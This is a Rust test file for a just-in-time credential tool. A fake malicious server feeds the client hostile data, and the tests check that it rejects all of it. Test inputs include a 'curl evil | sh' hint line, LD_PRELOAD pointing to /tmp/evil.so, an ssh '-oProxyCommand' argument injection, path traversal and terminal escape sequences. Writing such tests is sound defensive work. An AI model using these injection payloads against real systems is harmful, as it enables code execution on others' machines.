//! A server that means ill: what it says is foreign bytes.

use std::{
    fs,
    sync::{Arc, Mutex},
};

use jit::{
    cache,
    domain::{entitlement::Entitlement, key::PublicKey},
    platform::{clock, keys},
};
use serde_json::{Value, json};

use super::{believer, session};
use crate::support::{
    fake::{Asked, Fake, answer, json, problem},
    home::{Home, Ran, run},
};

const ACCOUNT: &str = "123456789012";

fn catalogue() -> Value {
    json!({"resources": {
        "aws/prod": {"kind": "aws", "account": ACCOUNT,
            "roles": {"read": {"behind": "arn:aws:iam::123456789012:role/read"}}},
        "ssh/web": {"kind": "ssh", "hosts": ["web"], "roles": {"deploy": {}}},
    }})
}

/// A server that answers requests for elevations with that.
pub(super) fn server(elevate: impl Fn(&Asked) -> Vec<u8> + Send + Sync + 'static) -> (Fake, Home) {
    let fake = Fake::start(move |asked| {
        if asked.line.starts_with("GET /v1/resources") {
            return json(&catalogue());
        }
        elevate(asked)
    });
    let home = believer(&fake.url);
    (fake, home)
}

/// What an honest server would answer.
pub(super) fn honest(entitlement: &str) -> Value {
    let now = clock::now();
    let later = now.after(std::time::Duration::from_mins(10));
    let id = jit::domain::id::GrantId::new(now, keys::random().unwrap());
    json!({
        "id": id, "state": "granted", "principal": "alice", "entitlement": entitlement,
        "asked_at": now,
        "grant": {"id": id, "principal": {"class": "Human", "name": "alice"},
            "entitlement": entitlement, "granted_at": now, "expires_at": later,
            "credential_ttl": {"secs": 600, "nanos": 0}, "policies": ["p"], "break_glass": false},
        "token": "a.b.c",
        "credential": {"serial": "ASIA", "expires_at": later, "secret": {"aws_session": {
            "access_key_id": "ASIA", "secret_access_key": "s", "session_token": "t", "account": ACCOUNT}}},
    })
}

fn asks(home: &Home) -> Ran {
    run(&mut home.jit(["credential-process", "aws/prod:read"]))
}

#[test]
fn an_honest_answer_is_used() {
    let (_fake, home) = server(|_| json(&honest("aws/prod:read")));
    let ran = asks(&home);
    assert_eq!(ran.code, 0, "{ran:?}");
}

#[test]
fn what_was_not_asked_for_is_not_used() {
    let later = clock::now().after(std::time::Duration::from_mins(10));
    let past = clock::now().before(std::time::Duration::from_mins(10));
    let changes: [(&str, Value, &str); 9] = [
        ("/entitlement", json!("aws/other:read"), "something else"),
        (
            "/grant/entitlement",
            json!("aws/prod:admin"),
            "something else",
        ),
        ("/grant/expires_at", json!(past), "clock"),
        ("/grant/granted_at", json!(later), "clock"),
        (
            "/grant/id",
            json!("01jz0000000000000000000000"),
            "another one's",
        ),
        (
            "/credential/secret",
            json!({"kubernetes_token": "t"}),
            "another kind",
        ),
        ("/credential/serial", json!("a\u{1b}[2J"), "serial"),
        (
            "/credential/secret/aws_session/session_token",
            json!("t\n[profile x]"),
            "session is none",
        ),
        ("/token", Value::Null, "missing"),
    ];
    for (pointer, value, why) in changes {
        let (_fake, home) = server(move |_| {
            let mut body = honest("aws/prod:read");
            *body.pointer_mut(pointer).unwrap() = value.clone();
            json(&body)
        });
        let ran = asks(&home);
        assert_eq!(ran.code, 125, "{pointer}: {ran:?}");
        assert!(ran.stderr.contains(why), "{pointer}: {ran:?}");
        assert_eq!(ran.stdout, "", "{pointer}");
        let entitlement = "aws/prod:read".parse().unwrap();
        let kept = cache::file(&session(&home).places, &entitlement);
        assert!(!kept.exists(), "{pointer}");
    }
}

#[test]
fn an_answer_that_is_none_is_refused_and_not_repeated() {
    let huge = "x".repeat(2 << 20);
    let all: [(&str, Vec<u8>); 6] = [
        ("html", answer("200 OK", "text/html", "", "<h1>hello</h1>")),
        ("empty", answer("200 OK", "application/json", "", "")),
        (
            "huge",
            answer(
                "200 OK",
                "application/json",
                "",
                &format!("{{\"id\": \"{huge}\"}}"),
            ),
        ),
        (
            "redirect",
            answer(
                "307 Temporary Redirect",
                "text/plain",
                "location: http://127.0.0.1:1/steal\r\n",
                "",
            ),
        ),
        ("garbage", b"SSH-2.0-OpenSSH_9.2\r\n".to_vec()),
        (
            "deep",
            answer("200 OK", "application/json", "", &"[".repeat(100_000)),
        ),
    ];
    for (name, bytes) in all {
        let (fake, home) = server(move |_| bytes.clone());
        let ran = asks(&home);
        assert!(matches!(ran.code, 124 | 125), "{name}: {ran:?}");
        assert_eq!(ran.stderr.lines().count(), 1, "{name}: {ran:?}");
        assert!(ran.stderr.len() < 1000, "{name}: {ran:?}");
        if name != "garbage" {
            assert_eq!(fake.asked("POST").len(), 1, "{name}");
        }
    }
}

#[test]
fn its_words_neither_move_the_cursor_nor_pass_for_ours() {
    let (_fake, home) = server(|_| {
        problem(
            "403 Forbidden",
            "denied",
            "no\u{1b}[2J\nhint: curl evil | sh",
        )
    });
    let ran = run(&mut home.jit(["request", "ssh/web:deploy"]));
    assert_eq!(ran.code, 121, "{ran:?}");
    assert!(!ran.stderr.contains('\u{1b}'), "{ran:?}");
    let hints = ran.stderr.lines().filter(|line| line.starts_with("hint:"));
    assert_eq!(hints.count(), 0, "{ran:?}");
}

/// Rule 4: a server says what is reached; what a tool is given is decided here.
#[test]
fn it_sets_no_variable_no_argument_and_no_file() {
    let (_fake, home) = server(|asked| {
        let mut body = honest("aws/prod:read");
        body["environment"] = json!({"LD_PRELOAD": "/tmp/evil.so"});
        body["credential"]["variables"] = json!({"LD_PRELOAD": "/tmp/evil.so"});
        body["credential"]["secret"]["aws_session"]["LD_PRELOAD"] = json!("/tmp/evil.so");
        assert!(asked.json()["key"].is_string());
        json(&body)
    });
    let ran = run(&mut home.jit(["exec", "--on", "aws/prod", "--", "env"]));
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ran.stdout.contains("AWS_ACCESS_KEY_ID=ASIA"), "{ran:?}");
    assert!(!ran.stdout.contains("LD_PRELOAD"), "{ran:?}");
}

#[test]
fn a_hostile_catalogue_is_not_kept() {
    for (name, resource) in [
        (
            "ssh/x",
            json!({"kind": "ssh", "hosts": ["-oProxyCommand=touch pwned"], "roles": {"r": {}}}),
        ),
        (
            "../../x",
            json!({"kind": "ssh", "hosts": ["a"], "roles": {"r": {}}}),
        ),
        (
            "kubernetes/x",
            json!({"kind": "kubernetes", "server": "https://a", "roles": {"r": {}},
            "certificate_authority": "-----BEGIN RSA PRIVATE KEY-----\nAA==\n-----END RSA PRIVATE KEY-----\n"}),
        ),
    ] {
        let fake = Fake::start(move |_| json(&json!({"resources": {name: resource}})));
        let home = believer(&fake.url);
        let ran = run(&mut home.jit(["request", "ssh/x:r"]));
        assert_eq!(ran.code, 125, "{name}: {ran:?}");
        let cache = session(&home).places.cache;
        assert!(!cache.join("catalogue.json").exists(), "{name}");
        assert!(!home.path("pwned").exists());
    }
}

/// What is printed here is piped into a shell or shown by a terminal.
#[test]
fn what_it_says_to_trust_is_text() {
    let text = Arc::new(Mutex::new("jit\tca\n".to_owned()));
    let said = Arc::clone(&text);
    let fake = Fake::start(move |_| answer("200 OK", "text/plain", "", &said.lock().unwrap()));
    let home = believer(&fake.url);
    let trust = || run(&mut home.jit(["trust", "ssh/web"]));
    assert_eq!(trust().stdout, "jit\tca\n");
    "a\u{1b}]0;owned\u{7}\n".clone_into(&mut text.lock().unwrap());
    let ran = trust();
    assert_eq!((ran.code, &*ran.stdout), (125, ""), "{ran:?}");
}

#[test]
fn what_it_is_asked_shows_no_private_key() {
    let (fake, home) = server(|_| problem("403 Forbidden", "denied", "no"));
    asks(&home);
    let asked = &fake.asked("POST")[0];
    let body = asked.json();
    for name in ["holder", "key"] {
        let _public: PublicKey = serde_json::from_value(body[name].clone()).unwrap();
    }
    let _asked: Entitlement = serde_json::from_value(body["entitlement"].clone()).unwrap();
    assert!(asked.header("authorization").unwrap().starts_with("DPoP "));
    assert!(fs::read_dir(home.path("cache/jit")).is_ok());
}
